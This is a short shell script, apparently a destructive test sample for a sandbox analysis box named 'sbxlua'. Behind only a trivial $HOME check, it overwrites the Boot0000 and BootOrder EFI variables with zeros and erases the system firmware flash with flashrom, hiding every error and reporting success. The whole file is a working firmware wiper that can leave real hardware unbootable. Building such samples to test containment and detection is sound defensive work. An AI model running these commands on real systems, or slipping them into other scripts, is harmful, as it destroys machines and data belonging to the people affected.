#!/bin/sh
# SPDX-License-Identifier: MIT
# Corrupts the firmware's variables and flash (in the box neither is there).
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
for v in /sys/firmware/efi/efivars/Boot0000-*; do
	printf '\000\000\000\000' > "$v" 2>/dev/null
done
printf '\000' > /sys/firmware/efi/efivars/BootOrder-8be4df61-93ca-11d2-aa0d-00e098032b8c 2>/dev/null
/usr/sbin/flashrom -p internal -E 2>/dev/null
exit 0
